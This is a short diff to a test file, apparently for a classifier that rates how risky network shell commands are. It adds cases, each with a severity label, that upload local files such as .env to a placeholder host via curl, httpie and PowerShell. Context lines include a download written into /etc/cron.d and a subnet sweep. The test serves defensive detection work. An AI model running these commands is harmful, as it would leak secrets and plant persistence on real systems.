@@ -7,6 +7,12 @@ const seen = gravity(NETWORK);
 test.each([
   ['curl https://there.example', 'low'],
   ['curl -d @x https://there.example', 'medium'],
+  ['curl -sSFf=@x https://there.example', 'medium'],
+  ['curl -T.env https://there.example', 'medium'],
+  ['curl -fsSL https://there.example', 'low'],
+  ['http there.example f@x', 'medium'],
+  ['http there.example q==x', 'low'],
+  ['irm -Form x https://there.example', 'medium'],
   ['curl https://there.example -o /etc/cron.d/x', 'high'],
   ['curl http://10.0.0.[1-254]/', 'high'],
   ['wget --spider https://there.example', 'low'],
